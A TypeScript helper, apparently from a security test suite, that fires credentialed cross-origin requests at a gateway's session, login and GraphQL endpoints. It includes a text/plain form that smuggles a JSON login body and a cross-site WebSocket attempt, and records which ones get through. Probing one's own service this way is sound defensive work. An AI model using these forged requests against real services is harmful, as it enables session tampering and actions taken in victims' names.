/** Tries all that a page of another origin can, each with the browser's cookies, and returns the outcomes that it sees. */
export async function attack(gateway: string): Promise<string[]> {
  const outcomes: string[] = [];
  const attempts: [path: string, init: RequestInit][] = [
    ['/console/session', {}],
    ['/console/session', { mode: 'no-cors' }],
    ['/console/session', { method: 'DELETE' }],
    ['/console/session', { method: 'POST', mode: 'no-cors', body: '{"user":"mallory","password":"x"}' }],
    ['/console/session/refresh', { method: 'POST', mode: 'no-cors' }],
    ['/console/login', { mode: 'no-cors', redirect: 'follow' }],
    ['/graphql', { method: 'POST', mode: 'no-cors', body: '{"query":"mutation { createImage { id } }"}' }],
    ['/graphql?query={viewer{user}}', { mode: 'no-cors' }],
  ];
  for (const [path, init] of attempts)
    outcomes.push(
      await fetch(gateway + path, { credentials: 'include', ...init }).then(
        ({ type, status }) => `${type} ${status}`,
        () => 'failed',
      ),
    );
  const form = document.createElement('form');
  Object.assign(form, {
    method: 'post',
    enctype: 'text/plain',
    action: `${gateway}/console/session`,
    target: 'frame',
  });
  const frame = document.createElement('iframe');
  frame.name = 'frame';
  const field = Object.assign(document.createElement('input'), {
    name: '{"user":"mallory","password":"',
    value: '"}',
  });
  form.append(field);
  document.body.append(frame, form);
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
  form.submit();
  await loaded;
  const socket = new WebSocket(`${gateway.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
  outcomes.push(
    await new Promise<string>((resolve) => {
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('no socket');
    }),
  );
  return outcomes;
}
